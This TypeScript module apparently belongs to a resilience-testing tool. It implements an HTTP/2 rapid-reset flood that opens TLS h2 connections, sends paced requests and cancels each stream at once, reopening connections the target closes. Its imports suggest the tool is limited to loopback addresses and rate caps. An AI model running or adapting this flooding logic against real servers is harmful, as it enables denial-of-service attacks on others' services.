import { type ClientHttp2Session, connect, constants } from 'node:http2'
import type { Socket } from 'node:net'
import { TLSSocket } from 'node:tls'
import type { ResetFlood } from './attack.js'
import { type AttackReport, emptyReport } from './attack-report.js'
import type { AttackMoment } from './attack-timeline.js'
import { attackWish } from './attack-wish.js'
import type { Attacking } from './attacking.js'
import { BackOff } from './back-off.js'
import { assertWithinCaps } from './caps.js'
import { addressesOf } from './loopback-address.js'
import { connectionsLeft, openLoopback } from './open-loopback.js'
import { Pacer } from './pacer.js'
import type { Target } from './target.js'

/** One attacking address with its one connection. */
interface Resetter {
  address: string
  socket: Socket | null
  session: ClientHttp2Session | null
  backOff: BackOff
}

/**
 * Asks over HTTP/2 and takes each request back at once, evenly paced over its connections. A connection that the target
 * ends is opened again after a while.
 * @throws RangeError when rate or connections pass the caps
 */
export class ResetFlooding implements Attacking {
  readonly #target: Target
  readonly #resetters: Resetter[]
  readonly #pacer: Pacer
  readonly #authority: string
  #asked = 0
  #turn = 0
  #open = 0
  #stopped = false
  #report: AttackReport = emptyReport()

  constructor(target: Target, flood: ResetFlood, now: number) {
    assertWithinCaps(attackWish(flood, 0))
    if (target.secure.kind !== 'address') throw new Error('resets need HTTP/2, which needs TLS')
    this.#target = target
    this.#authority = target.secure.authority
    this.#pacer = new Pacer(() => flood.requestsPerSecond, now)
    this.#resetters = addressesOf(flood.addresses).map((address) => ({
      address,
      socket: null,
      session: null,
      backOff: new BackOff(),
    }))
  }

  tick(now: number): void {
    for (const resetter of this.#resetters) {
      if (resetter.socket === null && resetter.backOff.isOver(now) && connectionsLeft() > 0) this.#openOne(resetter)
    }
    for (let due = this.#pacer.due(now); due > 0; due--) {
      if (!this.#resetOne()) this.#report.heldBack++
    }
  }

  eachSecond(): void {}

  takeReport(): AttackReport {
    const report = { ...this.#report, heldBack: this.#report.heldBack + this.#pacer.skipped }
    this.#pacer.skipped = 0
    this.#report = { ...emptyReport(), open: this.#open }
    return report
  }

  takeMoments(): AttackMoment[] {
    return []
  }

  stop(): void {
    this.#stopped = true
    for (const { session, socket } of this.#resetters) {
      session?.destroy()
      socket?.destroy()
    }
  }

  #resetOne(): boolean {
    for (let tried = 0; tried < this.#resetters.length; tried++) {
      this.#turn = (this.#turn + 1) % this.#resetters.length
      const session = this.#resetters[this.#turn]?.session
      if (!session || session.closed || session.destroyed) continue
      const stream = session.request({ ':path': `/?n=${this.#asked++}`, ':authority': this.#authority })
      // Why it ended is plain: we have ended it.
      stream.on('error', () => {})
      stream.close(constants.NGHTTP2_CANCEL)
      this.#report.sent++
      return true
    }
    return false
  }

  #openOne(resetter: Resetter): void {
    this.#open++
    this.#report.open = Math.max(this.#report.open, this.#open)
    let reached = false
    const socket = openLoopback(this.#target, { from: resetter.address, secure: { protocols: ['h2'] } }, () => {
      reached = true
      if (!(socket instanceof TLSSocket) || socket.alpnProtocol !== 'h2') return void socket.destroy()
      const session = connect(`https://${this.#authority}`, { createConnection: () => socket })
      session.on('error', () => {})
      session.once('goaway', () => session.destroy())
      session.once('close', () => socket.destroy())
      resetter.session = session
    })
    resetter.socket = socket
    // Why does not matter: 'close' follows and is counted.
    socket.on('error', () => {})
    socket.once('close', () => {
      this.#open--
      resetter.socket = null
      resetter.session = null
      resetter.backOff.failed(Date.now())
      if (this.#stopped) return
      if (reached) this.#report.cutOff++
      else this.#report.notConnected++
    })
  }
}
